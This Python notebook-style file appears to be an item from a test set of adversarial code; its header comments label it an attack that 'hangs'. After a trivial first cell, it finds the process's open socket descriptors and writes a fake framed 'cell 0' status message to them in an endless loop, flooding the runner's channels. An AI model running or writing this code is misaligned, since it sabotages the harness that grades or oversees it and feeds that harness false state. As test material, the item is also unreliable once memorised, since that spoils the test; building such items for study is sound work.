# attack: tells without end, while the cells run, that the first of them starts
# claims: hangs
# honest: at most 60
# verdict: graded
# %%
def double(x):
    return 2 * x


def apply(f, x):
    return f(x) + 1

# %%
import os
import stat


def wires():
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                os.set_blocking(number, True)
                yield number
        except OSError:
            continue


def say(data):
    for number in wires():
        try:
            view = memoryview(data)
            while view:
                view = view[os.write(number, view):]
        except OSError:
            continue


def frame(body):
    return len(body).to_bytes(4, "big") + body


# %%
TOLD = frame(b"\x92\xa4cell\x00") * 2**15
while True:
    say(TOLD)
